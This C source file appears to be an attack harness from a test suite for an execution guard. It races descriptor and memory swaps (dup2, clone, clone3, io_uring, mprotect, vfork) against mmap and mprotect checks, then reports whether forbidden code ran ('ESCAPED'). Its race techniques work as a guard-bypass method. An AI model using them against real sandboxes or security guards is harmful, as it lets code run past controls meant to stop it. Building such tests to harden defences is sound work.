/*
 * swap - exchange what an mmap or mprotect is about, between the guard's look
 * and the kernel's use.  Row L4.
 *
 * usage: ESCAPE_MARK=FILE swap ROUNDS ALLOWED FORBIDDEN MODE
 *
 * ALLOWED and FORBIDDEN begin with the code that `library make' writes;
 * FORBIDDEN's first bytes are exchanged by us for code that returns another
 * number, so FORBIDDEN must be the caller's.
 *
 *	thread	a thread exchanges the descriptor (dup2)
 *	files	so does a process that shares the descriptors, made by clone
 *	files3	the same, made by clone3
 *	uring	so does a kernel thread, told to by another process (io_uring)
 *	memory	a thread exchanges what is mapped, for mprotect
 *	vfork	so does the parent of a vfork child that asks
 *
 * Meanwhile a second thread calls whatever is mapped at the place, so that the
 * code runs as soon as it can, whoever looks at it later.  Prints
 *
 *	N rounds: A allowed ran, R refused, K killed, F forbidden ran
 *
 * in one line, and ESCAPED, with status 1, unless F is 0.
 */
#include <fcntl.h>
#include <linux/sched.h>
#include <pthread.h>
#include <sched.h>
#include <setjmp.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <time.h>

#include "attack.h"
#include "swap.h"
#include "swap_uring.h"

/* --- whoever calls what is mapped ------------------------------------------
 */

static _Thread_local sigjmp_buf nothing_there;

static void
on_fault(int signal)
{
	siglongjmp(nothing_there, signal);
}

static int
call(void)
{
	int (*volatile function)(void);
	void *at = AT;

	if (sigsetjmp(nothing_there, 1) != 0)
		return 0;
	memcpy((void *)(uintptr_t)&function, &at, sizeof(function));
	return function();
}

static void *
runner(void *unused)
{
	for (;;) {
		if (call() == EVIL)
			swap.score->has_run = true;
	}
	return unused;
}

static void
start(void *(*body)(void *))
{
	pthread_t thread;

	if (pthread_create(&thread, NULL, body, NULL) != 0)
		die("pthread_create");
}

/* --- the swappers ------------------------------------------------------------
 */

/* A new thread stays beside its creator for milliseconds: move away. */
static void
move_away(void)
{
	cpu_set_t elsewhere;

	(void)sched_getaffinity(0, sizeof(elsewhere), &elsewhere);
	CPU_CLR((size_t)swap.cpu, &elsewhere);
	(void)sched_setaffinity(0, sizeof(elsewhere), &elsewhere);
}

static void *
swap_descriptors(void *unused)
{
	move_away();
	for (;;) {
		(void)dup2(swap.forbidden, swap.at);
		dwell();
		(void)dup2(swap.allowed, swap.at);
		swap.score->has_begun = true;
		dwell();
	}
	return unused;
}

static void *
swap_memory(void *unused)
{
	move_away();
	for (;;) {
		(void)mmap(AT, PAGE, PROT_READ, MAP_PRIVATE | MAP_FIXED,
		    swap.forbidden, 0);
		dwell();
		(void)mmap(AT, PAGE, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_FIXED | MAP_ANONYMOUS, -1, 0);
		swap.score->has_begun = true;
		dwell();
	}
	return unused;
}

static int
swap_descriptors_process(void *unused)
{
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL, 0, 0, 0);
	(void)swap_descriptors(unused);
	return 0;
}

static void
share_by_clone(void)
{
	static char stack[65536] __attribute__((aligned(16)));

	if (clone(swap_descriptors_process, stack + sizeof(stack),
		CLONE_FILES | SIGCHLD, NULL) < 0)
		swap.score->untried++;
}

static void
share_by_clone3(void)
{
	struct clone_args args = {
		.flags = CLONE_FILES,
		.exit_signal = SIGCHLD,
	};
	long pid = syscall(SYS_clone3, &args, sizeof(args));

	if (pid < 0)
		swap.score->untried++;
	if (pid == 0)
		(void)swap_descriptors_process(NULL);
}

/* --- rounds --- */

static void
ask_to_map(void)
{
	void *at = mmap(AT, PAGE, PROT_READ | PROT_EXEC,
	    MAP_PRIVATE | MAP_FIXED, swap.at, 0);
	int number = at == MAP_FAILED ? 0 : call();

	if (at == MAP_FAILED)
		swap.score->refused++;
	else if (number == ALLOWED)
		swap.score->allowed++;
	else if (number == EVIL)
		swap.score->has_run = true;
	(void)munmap(AT, PAGE);
}

static void
ask_to_protect(void)
{
	if (mprotect(AT, PAGE, PROT_READ | PROT_EXEC) < 0)
		swap.score->refused++;
	else if (call() == EVIL)
		swap.score->has_run = true;
	else
		swap.score->allowed++;
}

static void
wait_for_swapper(void)
{
	time_t deadline = time(NULL) + 5;

	while (!swap.score->has_begun && swap.score->untried == 0 &&
	       time(NULL) < deadline)
		(void)sched_yield();
}

static void
count_run(void)
{
	if (swap.score->has_run)
		swap.score->forbidden++;
	swap.score->has_run = false;
}

static const struct mode {
	const char *name;
	void (*prepare)(void);
	void *(*swapper)(void *);
	void (*ask)(void);
	bool is_vfork;
} modes[] = {
	{ "thread", NULL, swap_descriptors, ask_to_map, false },
	{ "files", share_by_clone, NULL, ask_to_map, false },
	{ "files3", share_by_clone3, NULL, ask_to_map, false },
	{ "uring", share_by_uring, NULL, ask_to_map, false },
	{ "memory", NULL, swap_memory, ask_to_protect, false },
	{ "vfork", NULL, swap_memory, ask_to_protect, true },
};

static void
ask_often(const struct mode *mode)
{
	for (int i = 0; i < BATCH; i++) {
		swap.score->tried++;
		mode->ask();
		count_run();
	}
}

static _Noreturn void
batch(const struct mode *mode)
{
	struct sigaction action = { .sa_handler = on_fault,
		.sa_flags = SA_NODEFER };

	(void)sigaction(SIGSEGV, &action, NULL);
	(void)sigaction(SIGBUS, &action, NULL);
	(void)sigaction(SIGILL, &action, NULL);
	swap.at = dup(swap.allowed);
	swap.cpu = sched_getcpu();
	if (mode->prepare != NULL)
		mode->prepare();
	if (mode->swapper != NULL)
		start(mode->swapper);
	start(runner);
	wait_for_swapper();
	if (!mode->is_vfork || vfork() == 0)
		ask_often(mode);
	_exit(0);
}

static void
children(const struct mode *mode, long rounds)
{
	while (swap.score->tried < rounds) {
		int status = 0;
		pid_t child;

		swap.score->has_begun = false;
		child = fork();
		if (child == 0) {
			(void)setpgid(0, 0);
			batch(mode);
		}
		if (child < 0 || waitpid(child, &status, 0) != child)
			die("fork");
		(void)kill(-child, SIGKILL); /* whoever swapped for it */
		if (WIFSIGNALED(status))
			swap.score->killed++;
		count_run();
	}
}

static void
leave_mark(void)
{
	int mark = open(getenv("ESCAPE_MARK"),
	    O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);

	if (mark < 0 || write(mark, "x", 1) != 1)
		die("mark");
}

/* The number that the code returns, exchanged. */
static void
make_evil(const char *path)
{
	uint8_t bytes[16];
	int fd = open(path, O_RDWR | O_CLOEXEC);

	if (fd < 0 || read(fd, bytes, sizeof(bytes)) != sizeof(bytes))
		die(path);
#if defined(__x86_64__)
	bytes[1] = EVIL & 0xff;
	bytes[2] = EVIL >> 8;
#elif defined(__aarch64__)
	/* mov w0, #EVIL */
	memcpy(bytes, &(uint32_t){ 0x52800000 | EVIL << 5 }, 4);
#endif
	if (pwrite(fd, bytes, sizeof(bytes), 0) != sizeof(bytes))
		die(path);
	(void)close(fd);
}

int
main(int argc, char **argv)
{
	const struct mode *mode = NULL;
	struct score *s;

	for (size_t i = 0; argc == 5 && i < sizeof(modes) / sizeof(modes[0]);
	     i++)
		if (strcmp(argv[4], modes[i].name) == 0)
			mode = &modes[i];
	if (mode == NULL) {
		fputs("usage: swap ROUNDS ALLOWED FORBIDDEN MODE\n", stderr);
		return ATTACK_UNTRIED;
	}
	(void)mark_count();
	(void)setenv("ALLOWED", argv[2], 1);
	make_evil(argv[3]);
	swap.allowed = open(argv[2], O_RDONLY | O_CLOEXEC);
	swap.forbidden = open(argv[3], O_RDONLY | O_CLOEXEC);
	swap.forbidden_path = argv[3];
	s = swap.score = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
	    MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (swap.allowed < 0 || swap.forbidden < 0 || (void *)s == MAP_FAILED)
		die("open");
	children(mode, atol(argv[1]));
	printf("%ld rounds: %ld allowed ran, %ld refused, %ld killed, "
	       "%ld forbidden ran\n",
	    s->tried, s->allowed, s->refused, s->killed, s->forbidden);
	if (s->untried > 0)
		puts("no swapper");
	if (s->forbidden == 0)
		return ATTACK_STOPPED;
	leave_mark();
	puts("ESCAPED");
	return ATTACK_ESCAPED;
}
